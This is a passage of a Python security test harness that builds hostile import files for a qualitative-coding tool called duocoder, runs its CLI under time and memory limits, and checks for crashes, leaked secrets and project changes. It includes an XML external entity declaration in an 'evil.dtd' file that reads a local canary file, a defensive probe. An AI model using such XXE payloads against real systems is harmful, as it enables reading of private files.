    env = _Env(folder, folder / "secret.txt", folder / "evil.dtd")
    env.canary_file.write_text(CANARY + "\n", encoding="utf-8")
    env.canary_dtd.write_text(
        f'<!ENTITY leak SYSTEM "{env.canary_file.as_uri()}">\n', encoding="utf-8"
    )
    wanted = set(only) if only is not None else None
    cases = []
    for spec in SPECS:
        if wanted is not None and spec.id not in wanted:
            continue
        home = folder / spec.id
        home.mkdir()
        path = home / spec.file_name
        spec.write(path, env)
        cases.append(
            Case(spec.id, path, spec.command, spec.description, spec.may_import, spec.secret)
        )
    return cases


def write_harmless(folder: Path) -> dict[str, Path]:
    """The untouched skeleton of each format the cases vary, keyed by command: if these did
    not import, a refusal in the corpus would prove nothing about the hostile part."""
    folder.mkdir(parents=True, exist_ok=True)
    files = {name: folder / name for name in ("a.docx", "a.odt", "a.txt", "a.xlsx", "a.qdc")}
    _docx(files["a.docx"])
    _odt(files["a.odt"])
    files["a.txt"].write_text(_TXT, encoding="utf-8")
    _xlsx(files["a.xlsx"])
    files["a.qdc"].write_bytes(_qdc_xml())
    return files


def make_base_project(path: Path) -> Path:
    """The project every transcript and codebook case is imported into."""
    _real_project(path)
    return path


# -- running a case --------------------------------------------------------------------------


@dataclass(frozen=True)
class Outcome:
    returncode: int | None
    """None when the child was killed: by a signal of its own or at the timeout."""
    signal: int | None
    timed_out: bool
    stdout: str
    stderr: str
    seconds: float
    peak_rss_mb: float | None
    """The command's own peak resident memory (wait4's ru_maxrss); None where unavailable."""


_MEASURED = """
import json, os, resource, sys
limit, result, *argv = sys.argv[1:]
resource.setrlimit(resource.RLIMIT_AS, (int(limit), int(limit)))
pid = os.fork()
if pid == 0:
    try:
        os.execv(sys.executable, [sys.executable, *argv])
    finally:
        os._exit(127)
_, status, usage = os.wait4(pid, 0)
with open(result, "w") as fh:
    json.dump({"status": status, "maxrss": usage.ru_maxrss}, fh)
"""
"""Starts the command from a process of a few MB: Linux counts a child's peak memory from
the moment of fork, so a child forked straight from pytest (100 MB and more) would report
pytest's size as its own for every small case."""


def run_cli(argv: Sequence[str], state: Path, timeout: float = TIMEOUT_SECONDS) -> Outcome:
    """Run `python -m duocoder ARGV` from the repository with a time and memory limit.

    The child's log folders point into `state`, so an unexpected error leaves its crash log
    where the caller can see it instead of in the user's real log folder."""
    state.mkdir(parents=True, exist_ok=True)
    env = {
        **os.environ,
        "XDG_STATE_HOME": str(state),
        "XDG_CACHE_HOME": str(state),
        "LOCALAPPDATA": str(state),
        "PYTHONIOENCODING": "utf-8",
    }
    command = [sys.executable, "-m", "duocoder", *argv]
    result = state / "measured.json"
    posix = os.name == "posix"
    if posix:
        measured = [sys.executable, "-I", "-S", "-c", _MEASURED, str(MEMORY_LIMIT), str(result)]
        command = [*measured, "-m", "duocoder", *argv]
    with tempfile.TemporaryFile() as out, tempfile.TemporaryFile() as err:
        start = time.perf_counter()
        proc = subprocess.Popen(
            command,
            cwd=REPO,
            env=env,
            stdin=subprocess.DEVNULL,
            stdout=out,
            stderr=err,
            start_new_session=posix,
        )
        timed_out = False
        try:
            proc.wait(timeout)
        except subprocess.TimeoutExpired:
            timed_out = True
            if posix:
                os.killpg(proc.pid, signal.SIGKILL)
            else:
                proc.kill()
            proc.wait()
        seconds = time.perf_counter() - start
        code = proc.returncode
        peak: float | None = None
        if posix and result.exists():
            measured = json.loads(result.read_text())
            code = os.waitstatus_to_exitcode(measured["status"])
            scale = MB if sys.platform == "darwin" else 1024  # bytes there, kilobytes here
            peak = measured["maxrss"] / scale
        out.seek(0)
        err.seek(0)
        return Outcome(
            returncode=code if code >= 0 and not timed_out else None,
            signal=-code if code < 0 else None,
            timed_out=timed_out,
            stdout=out.read().decode("utf-8", "replace"),
            stderr=err.read().decode("utf-8", "replace"),
            seconds=seconds,
            peak_rss_mb=peak,
        )


# -- what the user would notice --------------------------------------------------------------


def project_state(path: Path) -> dict[str, list[tuple[object, ...]]]:
    """Documents, codes, codings and settings, read without writing a byte (`immutable`
    also keeps SQLite from creating -wal and -shm files beside the project)."""
    con = sqlite3.connect(f"{path.resolve().as_uri()}?mode=ro&immutable=1", uri=True)
    try:
        return {
            table: con.execute(sql).fetchall()
            for table, sql in (
                (
                    "documents",
                    "SELECT id, name, role, case_name, duo, length, content_hash FROM documents "
                    "ORDER BY id",
                ),
                (
                    "codes",
                    "SELECT id, parent_id, name, guid, color, description, codable, position "
                    "FROM codes ORDER BY id",
                ),
                (
                    "codings",
                    'SELECT id, document_id, code_id, start, "end", coder_id, memo FROM codings '
                    "ORDER BY id",
                ),
                ("meta", "SELECT key, value FROM meta ORDER BY key"),
            )
        }
    finally:
        con.close()


def project_texts(path: Path) -> str:
    """Every text a leaked secret could have landed in."""
    con = sqlite3.connect(f"{path.resolve().as_uri()}?mode=ro&immutable=1", uri=True)
    try:
        rows = con.execute(
            "SELECT text FROM documents UNION ALL SELECT name || ' ' || description FROM codes "
            "UNION ALL SELECT value FROM meta"
        ).fetchall()
        return "\n".join(str(r[0]) for r in rows)
    finally:
        con.close()


def folder_state(folder: Path) -> dict[str, str]:
    """Names and contents (hashed) of the files in a folder, side files included."""
    return {
        p.name: hashlib.sha256(p.read_bytes()).hexdigest() if p.is_file() else "<not a file>"
        for p in sorted(folder.iterdir())
    }


def _without_revision(meta: list[tuple[object, ...]]) -> list[tuple[object, ...]]:
    return [row for row in meta if row[0] != "revision"]


def problems(
    case: Case,
    outcome: Outcome,
    before: dict[str, object],
    after: dict[str, object],
    project: Path,
    state: Path,
) -> list[str]:
    """Everything about this run a researcher would notice, as short phrases; [] is a pass.

    `before` and `after` are `project_state` of the project the file was imported into, or
    `folder_state` of the folder of a project case."""
    found: list[str] = []
    if outcome.timed_out:
        found.append(f"still running after {TIMEOUT_SECONDS:.0f} s, killed")
    elif outcome.signal is not None:
        found.append(f"killed by {signal.Signals(outcome.signal).name}")
    elif outcome.returncode == 3:
        found.append("crashed (exit 3)")
    elif outcome.returncode == 0 and not case.may_import:
        found.append("accepted the file (exit 0)")
    elif outcome.returncode not in (0, 1):
        found.append(f"exit status {outcome.returncode}")
    if "Traceback" in outcome.stderr + outcome.stdout:
        found.append("printed a traceback")
    crash_logs = list(state.rglob("duocoder-errors.log")) if state.exists() else []
    if crash_logs:
        found.append("logged an unexpected error")
    if outcome.returncode == 1:
        lines = outcome.stderr.splitlines()
        # `import` reports each file on its own line; the other commands fail as a whole
        prefixes = ("duocoder: ", "Failed: ") if case.command == IMPORT else ("duocoder: ",)
        if len(lines) != 1:
            found.append(f"{len(lines)} lines on stderr, not one")
        elif not lines[0].startswith(prefixes):
            found.append(f"stderr does not start with {' or '.join(map(repr, prefixes))}")
        if case.path.name not in outcome.stderr:
            found.append("the message does not name the file")
        if "unexpected error" in outcome.stderr:
            found.append("refused only through the unexpected-error path")
    if case.secret and case.secret in outcome.stdout + outcome.stderr:
        found.append("the secret appears in the output")
    if outcome.peak_rss_mb is not None and outcome.peak_rss_mb > PEAK_RSS_CEILING_MB:
        found.append(f"peak memory {outcome.peak_rss_mb:.0f} MB > {PEAK_RSS_CEILING_MB} MB")
    if case.command == PROJECT:
        if after != before:
            found.append("the project file or its folder changed")
        return found
    if Path(f"{project}-wal").exists() and Path(f"{project}-wal").stat().st_size:
        found.append("left a non-empty write-ahead log beside the project")
    if case.secret and case.secret in project_texts(project):
        found.append("the secret was stored in the project")
    if outcome.returncode != 0:
        if after != before:
            found.append("the project changed although the file was refused")
    else:
        found += _accepted_changes(case, before, after)
    return found


def _accepted_changes(case: Case, before: dict[str, object], after: dict[str, object]) -> list[str]:
    """An acceptable import may add what the command adds, and nothing else."""
    found = []
    touched = "documents" if case.command == IMPORT else "codes"
    for table in ("documents", "codes", "codings"):
        if table != touched and after[table] != before[table]:
            found.append(f"{table} changed by a {case.command}")
    if _without_revision(after["meta"]) != _without_revision(before["meta"]):  # type: ignore[arg-type]
        found.append(f"settings changed by a {case.command}")
    if case.command == IMPORT:
        old, new = before["documents"], after["documents"]
        assert isinstance(old, list) and isinstance(new, list)
        if new[: len(old)] != old or len(new) != len(old) + 1:
            found.append("the import did not add exactly one document")
    return found


def run_case(case: Case, base_project: Path, work: Path) -> tuple[Outcome, list[str]]:
    """Run one case against a fresh copy of `base_project` in `work`; (outcome, problems)."""
    work.mkdir(parents=True, exist_ok=True)
    state = work / "state"
    project = work / "project.duocoder"
    if case.command == PROJECT:
        before: dict[str, object] = dict(folder_state(case.path.parent))
    else:
        shutil.copyfile(base_project, project)
        before = dict(project_state(project))
    outcome = run_cli(case.argv(project), state)
    if case.command == PROJECT:
        after: dict[str, object] = dict(folder_state(case.path.parent))
    else:
        after = dict(project_state(project))
    return outcome, problems(case, outcome, before, after, project, state)


def main(argv: list[str] | None = None) -> int:
    parser = argparse.ArgumentParser(prog="python -m tests.security.hostile_corpus")
    parser.add_argument("--only", action="append", help="run only this case (repeatable)")
    args = parser.parse_args(argv)
    with tempfile.TemporaryDirectory(prefix="duocoder-hostile-") as tmp:
        root = Path(tmp)
        started = time.perf_counter()
        cases = build_corpus(root / "corpus", args.only)
        built = time.perf_counter() - started
        base = make_base_project(root / "base.duocoder")
        failed = 0
        peak = 0.0
        for case in cases:
            outcome, found = run_case(case, base, root / "runs" / case.id)
            failed += bool(found)
            peak = max(peak, outcome.peak_rss_mb or 0.0)
            row = {
                "case": case.id,
                "command": case.command,
                "exit": outcome.returncode,
                "seconds": round(outcome.seconds, 2),
                "peak_rss_mb": round(outcome.peak_rss_mb or 0, 1),
                "problems": found,
                "stderr": outcome.stderr.strip()[:300],
            }
            print(json.dumps(row, ensure_ascii=False), flush=True)
        summary = {
            "cases": len(cases),
            "failed": failed,
            "corpus_seconds": round(built, 2),
            "total_seconds": round(time.perf_counter() - started, 1),
            "max_peak_rss_mb": round(peak, 1),
        }
        print(json.dumps(summary), flush=True)
    return 1 if failed else 0


if __name__ == "__main__":
    raise SystemExit(main())
